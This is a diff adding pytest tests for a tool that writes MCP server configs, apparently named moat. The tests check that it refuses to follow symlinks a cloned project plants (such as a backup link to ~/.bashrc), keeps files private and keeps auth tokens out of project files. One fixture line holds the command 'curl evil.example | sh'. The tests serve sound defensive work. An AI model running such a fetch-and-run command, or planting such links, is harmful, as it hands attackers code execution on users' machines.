@@ -61,6 +61,111 @@ def test_config_write_merges_into_the_hosts_file(
     assert commented.read_text() == '{ // mine\n "servers": {} }'
 
 
+def test_config_write_follows_no_link_a_project_plants(
+    moat_bin: Path, plugin: Callable[[str], Path], tmp_path: Path
+) -> None:
+    """A cloned project can ship `.mcp.json.bak -> ~/.bashrc`: moat refuses, and the link's
+    target keeps its text; so for a linked file, and for a linked `.vscode` folder."""
+    project, elsewhere = tmp_path / "project", tmp_path / "elsewhere"
+    project.mkdir()
+    elsewhere.mkdir()
+    victim = tmp_path / "bashrc"
+    victim.write_text("# mine\n")
+    env = {k: v for k, v in os.environ.items() if k != "MOAT_HOST_CONFIG"}
+
+    def write(host: str) -> subprocess.CompletedProcess[str]:
+        return run(moat_bin, "config", host, plugin("echo"), "--write", env=env, cwd=project)
+
+    (project / ".mcp.json").write_text('{"mcpServers": {}, "note": "curl evil.example | sh"}')
+    (project / ".mcp.json.bak").symlink_to(victim)
+    refused = write("claude-code")
+    assert refused.returncode != 0
+    assert "its backup, .mcp.json.bak, is a symbolic link" in refused.stderr, refused.stderr
+    assert victim.read_text() == "# mine\n"
+
+    (project / ".mcp.json.bak").unlink()
+    (project / ".mcp.json").unlink()
+    (project / ".mcp.json").symlink_to(victim)
+    refused = write("claude-code")
+    assert refused.returncode != 0 and "the file, .mcp.json, is a symbolic link" in refused.stderr
+    assert victim.read_text() == "# mine\n"
+
+    (project / ".vscode").symlink_to(elsewhere)
+    refused = write("vscode")
+    assert refused.returncode != 0 and ".vscode is a symbolic link" in refused.stderr
+    assert list(elsewhere.iterdir()) == []
+
+
+def test_config_write_keeps_a_private_file_and_its_backup_private(
+    moat_bin: Path, plugin: Callable[[str], Path], tmp_path: Path
+) -> None:
+    file = tmp_path / "mcp.json"
+    file.write_text('{"mcpServers": {}}')
+    file.chmod(0o600)
+    wrote = run(moat_bin, "config", "cursor", plugin("echo"), "--write", "--file", file)
+    assert wrote.returncode == 0, wrote.stderr
+    assert "moat" in json.loads(file.read_text())["mcpServers"]
+    assert file.stat().st_mode & 0o777 == 0o600
+    assert (tmp_path / "mcp.json.bak").stat().st_mode & 0o777 == 0o600
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["mcp.json", "mcp.json.bak"]
+
+
+def test_config_write_puts_the_local_token_in_no_project_file(moat_bin: Path, tmp_path: Path) -> None:
+    """Project files name the token in each host's own syntax and moat says how to set it; only
+    the host's own user file holds the token, and it is then private to its owner."""
+    token = "moat_e2e_project_" + "k" * 32
+    token_file = tmp_path / "http-token"
+    token_file.write_text(token + "\n")
+    token_file.chmod(0o600)
+    project, home = tmp_path / "project", tmp_path / "home"
+    project.mkdir()
+    home.mkdir()
+    env = {**os.environ, "HOME": str(home), "XDG_CONFIG_HOME": str(home / ".config")}
+    env.pop("MOAT_HOST_CONFIG", None)
+
+    def write(host: str, *extra: str | Path) -> subprocess.CompletedProcess[str]:
+        return run(moat_bin, "config", host, "--http", "127.0.0.1:8080", "--token-file", token_file,
+                   "--write", *extra, env=env, cwd=project)
+
+    def header(file: Path, table: str = "mcpServers") -> str:
+        text = file.read_text()
+        assert token not in text
+        return json.loads(text)[table]["moat"]["headers"]["Authorization"]
+
+    claude_code = write("claude-code")
+    assert claude_code.returncode == 0, claude_code.stderr
+    assert header(project / ".mcp.json") == "Bearer ${MOAT_TOKEN}"
+    assert f'export MOAT_TOKEN="$(cat {token_file})"' in claude_code.stderr
+    assert token not in claude_code.stderr + claude_code.stdout
+
+    vscode = write("vscode")
+    assert vscode.returncode == 0, vscode.stderr
+    assert header(project / ".vscode/mcp.json", "servers") == "Bearer ${input:moat-token}"
+    [asked] = json.loads((project / ".vscode/mcp.json").read_text())["inputs"]
+    assert asked["id"] == "moat-token" and asked["password"] is True
+    assert 'asks for input "moat-token"' in vscode.stderr and str(token_file) in vscode.stderr
+
+    cursor_project = write("cursor", "--file", project / ".cursor/mcp.json")
+    assert cursor_project.returncode == 0, cursor_project.stderr
+    assert header(project / ".cursor/mcp.json") == "Bearer ${env:MOAT_TOKEN}"
+
+    desktop_elsewhere = write("claude-desktop", "--file", project / "desktop.json")
+    assert desktop_elsewhere.returncode != 0
+    assert "expands no environment variable" in desktop_elsewhere.stderr
+    assert not (project / "desktop.json").exists()
+
+    own = home / ".cursor/mcp.json"
+    own.parent.mkdir()
+    own.write_text('{"mcpServers": {}}')
+    own.chmod(0o644)
+    cursor = write("cursor")
+    assert cursor.returncode == 0, cursor.stderr
+    assert json.loads(own.read_text())["mcpServers"]["moat"]["headers"] == {"Authorization": f"Bearer {token}"}
+    assert own.stat().st_mode & 0o777 == 0o600
+    assert (home / ".cursor/mcp.json.bak").stat().st_mode & 0o777 == 0o600
+    assert token not in cursor.stderr
+
+
 def test_cache_list_dir_and_size(moat_bin: Path, plugin: Callable[[str], Path], tmp_path: Path) -> None:
     cache = tmp_path / "cache"
     env = {**os.environ, "MOAT_CACHE_DIR": str(cache)}
